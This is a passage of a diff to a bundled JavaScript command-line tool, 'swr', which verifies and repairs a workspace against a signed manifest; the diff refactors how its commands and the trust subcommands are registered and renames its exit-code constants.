         io.stdout.write(`fingerprint: ${groupFingerprint(fp)}\npublic key (base64, ${Buffer.from(pub, 'base64').length} bytes):\n${pub}\n`);
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
+}
+function registerTrust(program, { io, run }) {
+    const trust = program
+        .command('trust')
+        .description('manage the ML-DSA signers this machine trusts');
+    withGlobals(trust.command('add'))
+        .description('trust a signer')
+        .argument('<fingerprint>', '64 hex digits (spaces allowed)')
+        .argument('<name>', 'a name to show for the signer')
+        .action((fp, name, flags) => run(() => trustAdd(fp, name, flags, io)));
+    withGlobals(trust.command('list'))
+        .description('list trusted signers')
+        .action((flags) => run(() => trustList(flags, io)));
+    withGlobals(trust.command('remove'))
+        .description('stop trusting a signer')
+        .argument('<fingerprint-or-name>')
+        .action((what, flags) => run(() => trustRemove(what, flags, io)));
+    withGlobals(trust.command('mine'))
+        .description("print this machine's fingerprint and public key, to share")
+        .action((flags) => run(() => trustMine(flags, io)));
 }
 
 ;// CONCATENATED MODULE: ./src/cli/main.ts
@@ -26834,7 +28957,6 @@ function trustMine(flags, io) {
  * The `swr` command line: argv -> command -> exit code. Every error the user can cause becomes one
  * line on stderr and a documented exit code; only a bug prints more (and asks to be reported).
  */
-
 
 
 
@@ -26873,53 +28995,30 @@ Exit codes:
 Manifest: -m FILE, else $SWR_MANIFEST, else the nearest .swr/manifest.json above the current
 directory, else ~/.swr/manifest.json. State (cache, keys, canary ledger, survival history):
 $SWR_STATE_DIR, else $XDG_STATE_HOME/swr, else ~/.local/state/swr. The history keeps 1,000
-records per file before it rotates ($SWR_HISTORY_LIMIT sets another number).`;
-function withGlobals(cmd) {
-    return cmd
-        .option('-m, --manifest <file>', 'manifest file (default: $SWR_MANIFEST or the nearest .swr/manifest.json)')
-        .option('--workspace <dir>', 'directory the manifest describes (overrides the manifest)')
-        .option('--json', 'print a JSON document on stdout and nothing else')
-        .option('-q, --quiet', 'print nothing when healthy')
-        .option('--no-color', 'never colour the output (NO_COLOR is honoured too)');
-}
-function checkOptions(cmd) {
-    return withGlobals(cmd)
-        .option('--only <id...>', 'check only these entries')
-        .option('--deep', 'also compare the full sha256 of blobs')
-        .option('--meta', 'sizes, modes, types and tree structure only: no content hashing')
-        .option('--no-cache', 'ignore the incremental cache and re-hash everything')
-        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32));
-}
-function trustOptions(cmd) {
-    return cmd
-        .addOption(new Option('--require <kinds>', 'signatures that must hold before code runs (default: $SWR_REQUIRE or any)').choices(['any', 'hmac', 'mldsa', 'both']))
-        .option('--min-version <n>', 'refuse manifests whose version is below N (rollback floor)', intOption('--min-version', 1, Number.MAX_SAFE_INTEGER))
-        .option('--trusted-signer <fp-or-key>', 'trust this ML-DSA fingerprint or public key for this run (repeatable; also $SWR_TRUSTED_SIGNERS)', collect)
-        .option('--threshold <n>', 'distinct trusted ML-DSA signers required (default 1)', intOption('--threshold', 1, 16))
-        .option('--i-trust-this-manifest <digest>', 'waive the signature requirement for exactly this manifest digest (scope, expiry and floor still apply)');
-}
+records per file before it rotates ($SWR_HISTORY_LIMIT sets another number). SWR_NATIVE_WALK=0 walks
+large trees without GNU find (same digests; for a file system where find misbehaves).`;
+/** The commands in help order; completion last, so its scripts cover every command before it. */
+const COMMANDS = [
+    registerCheck,
+    registerRepair,
+    registerAdd,
+    registerInit,
+    registerImport,
+    registerEscrow,
+    registerSelftest,
+    registerExportRecipes,
+    registerSync,
+    registerPeer,
+    registerHook,
+    registerSigning,
+    registerAttacktest,
+    registerCanary,
+    registerStats,
+    registerTrust,
+    registerAuthorCommands,
+    registerCompletion
+];
 function buildProgram(io, done) {
-    const registerCanaryCommands = (program) => {
-        const canary = program
-            .command('canary')
-            .description('measure what this runner, cache or sandbox keeps: plant probes, read them later');
-        withGlobals(canary.command('plant'))
-            .description('plant probes (exec bits, private modes, links, hard links, empty dirs, long and non-ASCII names, dotfiles, a large file) in the workspace, a deep path, volatile dirs, $HOME, the temp dir and every --at path; never overwrites a file')
-            .option('--at <path>', 'also plant in this directory (repeatable; created if missing)', collect)
-            .option('--volatile <name>', 'also plant under this workspace directory name (repeatable; created if missing; refused when it is a symlink)', collect)
-            .option('--large-bytes <n>', 'size of the large probe (default 67108864; 0 plants none)', intOption('--large-bytes', 0, 16 * 1024 * 1024 * 1024))
-            .option('--no-home', 'do not plant in $HOME')
-            .option('--no-tmp', 'do not plant in the temp directory')
-            .option('--replace', 'discard a planting that was never read (its probes are removed first)')
-            .action(async (flags) => done(await canaryPlant(flags, io)));
-        withGlobals(canary.command('read'))
-            .description('compare every probe with the ledger (intact, altered and how, lost), by class and location; records the result in the history; exit 1 when any probe changed')
-            .option('--clean', 'remove the probes and the ledger after reading')
-            .action(async (flags) => done(await canaryRead(flags, io)));
-        withGlobals(canary.command('clean'))
-            .description('remove exactly the planted probes (and the directories the planting created, when empty)')
-            .action(async (flags) => done(await canaryClean(flags, io)));
-    };
     const program = new Command('swr')
         .description('Snapshot-Wipe Resilience: verify a workspace against a signed manifest and repair exactly what is broken')
         .version(VERSION, '-V, --version')
@@ -26930,148 +29029,9 @@ function buildProgram(io, done) {
         writeErr: s => void io.stderr.write(s)
     })
         .exitOverride();
-    trustOptions(checkOptions(program.command('check')))
-        .description('verify every entry (read-only: never runs recipes or smoke commands); exit 1 when damaged')
-        .option('--all', 'list healthy entries too')
-        .option('--cache-lookup', 'report which entries have a cache saved for their exact state (on a runner; downloads nothing)')
-        .option('--record', 'append this check to the survival history (see "swr stats" and "swr why")')
-        .option('--run-smoke', "also run the entries' smoke commands (manifest code: only when its signatures allow)")
-        .action(async (flags) => {
-        done(await checkCommand(flags, io));
-    });
-    checkOptions(program.command('why'))
-        .alias('explain')
-        .description('explain each damaged entry: what was found, the likely cause, and the fix')
-        .action(async (flags) => {
-        done(await whyCommand(flags, io));
-    });
-    for (const mode of ['restore', 'doctor']) {
-        trustOptions(withGlobals(program.command(mode)))
-            .description(mode === 'doctor'
-            ? 'check, restore the damaged entries in tier and dependency order, re-check everything uncached'
-            : 'restore the damaged entries in tier and dependency order, re-verify each, re-check everything uncached')
-            .option('--only <id...>', 'consider only these entries')
-            .option('--dry-run', 'print the plan with the reason for each step and run nothing (exit 1 when damaged)')
-            .option('--timeout <s>', "per-recipe timeout in seconds (overrides each entry's timeout_s)", intOption('--timeout', 1, 86400))
-            .option('--jobs <n>', 'hashing threads, and recipes run in parallel where the plan allows', intOption('--jobs', 1, 32))
-            .option('--quarantine', 'copy each damaged file or tree into the state directory before its recipe runs (copies older than $SWR_QUARANTINE_KEEP_DAYS, default 7, or beyond $SWR_QUARANTINE_MAX_MB in all, default 1024, are pruned)')
-            .option('--resume', 'continue an interrupted restore of the same manifest and workspace')
-            .option('--record', 'append the first check (what survived, before any repair) to the survival history')
-            .option('--no-cache', 'ignore the incremental cache in the first check')
-            .option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400))
-            .action(async (flags) => done(await repairCommand(mode, flags, io)));
-    }
-    withGlobals(program.command('add'))
-        .description('track PATH(s): capture size, hash, mode, link target or tree digests from disk now')
-        .argument('<path...>', 'files, directories or symlinks inside the workspace')
-        .option('--id <id>', 'entry id (default: derived from the path)')
-        .addOption(new Option('--kind <kind>', 'entry kind (default: from what is on disk)').choices([...KINDS]))
-        .option('--tier <n>', `restore tier ${TIERS[0]}-${TIERS[TIERS.length - 1]} (0 credentials, 1 scripts, 2 source, 3 downloads, 4 builds)`, intOption('--tier', 0, 4))
-        .option('--sentinel <relpath>', 'tree: a file that must exist and be non-empty (repeatable)', collect)
-        .option('--needs <id>', 'entry that must be healthy before this one is restored (repeatable)', collect)
-        .option('--restore <cmd>', 'shell recipe that recreates the entry')
-        .option('--timeout <s>', 'recipe timeout in seconds', intOption('--timeout', 1, 86400))
-        .option('--smoke <cmd>', 'shell command that proves the entry works')
-        .option('--ignore <name-or-glob>', 'tree: leave out of the walk, a .gitignore rule (repeatable)', collect)
-        .option('--note <text>', 'why this entry is fragile (shown by "swr why")')
-        .option('--min-files <n>', 'tree: fewest files allowed (default: files now)', intOption('--min-files', 0, Number.MAX_SAFE_INTEGER))
-        .option('--max-files <n>', 'tree: most files allowed (default: files now)', intOption('--max-files', 0, Number.MAX_SAFE_INTEGER))
-        .option('--no-full-hash', 'blob: record size, mode and head/tail only, not the full sha256 (a huge file then never gets read in full by check)')
-        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32))
-        .option('--approve-digest <digest>', 'edit a manifest whose signature does not verify, after reviewing exactly this content')
-        .action(async (paths, flags) => {
-        done(await withManifestLock(flags, io, () => addCommand(paths, flags, io)));
-    });
-    withGlobals(program.command('init'))
-        .description('scan the workspace and write a first manifest (never overwrites one)')
-        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32))
-        .action(async (flags) => {
-        done(await withManifestLock(flags, io, () => initCommand(flags, io)));
-    });
-    withGlobals(program.command('import'))
-        .description("convert the original tool's format-2 manifest to format 3 (unsigned until signed)")
-        .argument('<old.json>', 'format-2 manifest')
-        .option('--legacy-key <file>', "check the old HMAC signature with the original tool's key file; sign the result if it holds")
-        .option('--approve-digest <digest>', 'sign the converted manifest, after reviewing exactly this content')
-        .action(async (old, flags) => {
-        done(await withManifestLock(flags, io, () => importCommand(old, flags, io)));
-    });
-    withGlobals(program.command('escrow'))
-        .description('embed small files in the manifest (checked against their sha256) so they restore without a recipe')
-        .option('--only <id...>', 'escrow only these entries')
-        .option('--max-bytes <n>', 'largest file to escrow (default 262144)', intOption('--max-bytes', 1, 1024 * 1024))
-        .option('--approve-digest <digest>', 'edit a manifest whose signature does not verify, after reviewing exactly this content')
-        .option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400))
-        .action(async (flags) => done(await escrowCommand(flags, io)));
-    trustOptions(withGlobals(program.command('selftest')))
-        .description('run recipes twice in a scratch copy of the workspace and check both runs leave their entry verifying')
-        .option('--only <id...>', 'test only these entries')
-        .option('--max-tier <n>', 'test recipes of tiers up to N', intOption('--max-tier', 0, 4))
-        .option('--timeout <s>', 'per-recipe timeout in seconds', intOption('--timeout', 1, 86400))
-        .option('--allow-empty', 'succeed when nothing matches the selection')
-        .option('--from-scratch', 'remove each entry from the scratch copy first: the recipe must recreate it')
-        .action(async (flags) => done(await selftestCommand(flags, io)));
-    trustOptions(withGlobals(program.command('export-recipes')))
-        .description('print the restore recipes as one bash script in tier and dependency order (only when signatures allow)')
-        .option('--only <id...>', 'export only these entries')
-        .action(async (flags) => done(await exportRecipesCommand(flags, io)));
-    withGlobals(program.command('push'))
-        .description('save the manifest and its tree indexes to the Actions cache (sealed with HPKE/X-Wing when it carries escrow)')
-        .action(async (flags) => done(await pushCommand(flags, io)));
-    trustOptions(withGlobals(program.command('pull')))
-        .description('restore the newest pushed manifest from the Actions cache, verified before it is written (never over an existing file)')
-        .action(async (flags) => done(await withManifestLock(flags, io, () => pullCommand(flags, io))));
-    withGlobals(program.command('keygen'))
-        .description("create this machine's ML-DSA-87 identity and HMAC key in the private state directory (never replaces a key)")
-        .option('--no-hmac', 'do not create an HMAC key')
-        .option('--no-mldsa', 'do not create an ML-DSA identity')
-        .option('--no-sync', 'do not create a sync key (it seals manifests that swr push sends off the machine)')
-        .action(async (flags) => done(await keygenCommand(flags, io)));
-    trustOptions(withGlobals(program.command('sign')))
-        .description('raise the version and sign the manifest with every key this machine holds')
-        .option('--approve-digest <digest>', 'sign a manifest whose signature does not verify, after reviewing exactly this content')
-        .action(async (flags) => done(await withManifestLock(flags, io, () => signCommand(flags, io))));
-    trustOptions(withGlobals(program.command('verify')))
-        .description('show each signature (valid, invalid, untrusted signer, absent), the digest, and whether recipes may run; exit 0 allowed, 2 refused')
-        .action(async (flags) => done(await verifyCommand(flags, io)));
-    withGlobals(program.command('attacktest'))
-        .description('attack a signed manifest with generated forgeries against this build; exit 0 when none succeeds')
-        .option('--count <n>', 'mutations to try (default 10000)', intOption('--count', 1, 10_000_000), 10_000)
-        .option('--seed <text>', 'repeat a run exactly')
-        .action(async (flags) => done(await attacktestCommand(flags, io)));
-    registerCanaryCommands(program);
-    withGlobals(program.command('stats'))
-        .description('survival per canary class, location and manifest entry from the history, with 95% Wilson intervals')
-        .action((flags) => done(statsCommand(flags, io)));
-    const trust = program
-        .command('trust')
-        .description('manage the ML-DSA signers this machine trusts');
-    withGlobals(trust.command('add'))
-        .description('trust a signer')
-        .argument('<fingerprint>', '64 hex digits (spaces allowed)')
-        .argument('<name>', 'a name to show for the signer')
-        .action((fp, name, flags) => done(trustAdd(fp, name, flags, io)));
-    withGlobals(trust.command('list'))
-        .description('list trusted signers')
-        .action((flags) => done(trustList(flags, io)));
-    withGlobals(trust.command('remove'))
-        .description('stop trusting a signer')
-        .argument('<fingerprint-or-name>')
-        .action((what, flags) => done(trustRemove(what, flags, io)));
-    withGlobals(trust.command('mine'))
-        .description("print this machine's fingerprint and public key, to share")
-        .action((flags) => done(trustMine(flags, io)));
-    registerAuthorCommands(program, io, done, withGlobals);
-    // Last, so the scripts it prints cover every command registered above.
-    program
-        .command('completion')
-        .description(`print a shell completion script (${SHELLS.join(', ')})`)
-        .argument('<shell>', SHELLS.join(' | '))
-        .addHelpText('after', '\nInstall: eval "$(swr completion bash)" in ~/.bashrc, the same with zsh in ~/.zshrc,\nor swr completion fish | source in ~/.config/fish/config.fish.')
-        .action((shell) => {
-        io.stdout.write(completionScript(program, shell));
-        done(EXIT.HEALTHY);
-    });
+    const ctx = commandContext(io, done);
+    for (const register of COMMANDS)
+        register(program, ctx);
     return program;
 }
 /** Run the CLI; resolves to the exit code (the bin entry exits with it). */
@@ -27084,10 +29044,10 @@ async function main_main(argv, rawIo = processIo()) {
     try {
         if (argv.length <= 2) {
             program.outputHelp();
-            return EXIT.BAD_MANIFEST;
+            return errors_EXIT.BAD_MANIFEST;
         }
         await program.parseAsync(argv);
-        return code ?? EXIT.HEALTHY;
+        return code ?? errors_EXIT.HEALTHY;
     }
     catch (err) {
         return reportError(err, io, argv.includes('--json'));
@@ -27099,8 +29059,8 @@ function reportError(err, io, json) {
     if (err instanceof CommanderError) {
         // Help and version print themselves and exit 0; everything else is bad usage.
         if (err.exitCode === 0)
-            return EXIT.HEALTHY;
-        return EXIT.BAD_MANIFEST;
+            return errors_EXIT.HEALTHY;
+        return errors_EXIT.BAD_MANIFEST;
     }
     const known = err instanceof SwrError ? err : diskError(err);
     if (known)
@@ -27109,7 +29069,7 @@ function reportError(err, io, json) {
     if (code && err instanceof Error && 'path' in err) {
         // An fs error the user can fix (permissions, a vanished file): one line, no stack.
         const e = err;
-        return printError(io, json, `${e.syscall ?? 'access'} ${e.path}: ${code}`, EXIT.BAD_MANIFEST);
+        return printError(io, json, `${e.syscall ?? 'access'} ${e.path}: ${code}`, errors_EXIT.BAD_MANIFEST);
     }
     return reportInternal(err, io, json);
 }
@@ -27130,11 +29090,11 @@ function reportInternal(err, io, json) {
     const what = (e instanceof InternalError ? e.message : `${e.name}: ${e.message}`)
         .replace(/\p{Cc}+/gu, ' ')
         .slice(0, 300);
-    printError(io, json, `internal error: ${what}`, EXIT.INTERNAL);
+    printError(io, json, `internal error: ${what}`, errors_EXIT.INTERNAL);
     if (io.env.SWR_DEBUG)
         io.stderr.write(`${e.stack ?? ''}\n`);
     io.stderr.write('swr: this is a bug in swr; please report it with the line above (SWR_DEBUG=1 adds the stack)\n');
-    return EXIT.INTERNAL;
+    return errors_EXIT.INTERNAL;
 }
 
 ;// CONCATENATED MODULE: ./src/cli/index.ts
@@ -27160,7 +29120,7 @@ process.on('unhandledRejection', crash);
 main_main(process.argv).then(code => {
     process.exitCode = code;
 }, err => {
-    process.exitCode = EXIT.INTERNAL;
+    process.exitCode = errors_EXIT.INTERNAL;
     crash(err);
 });
 
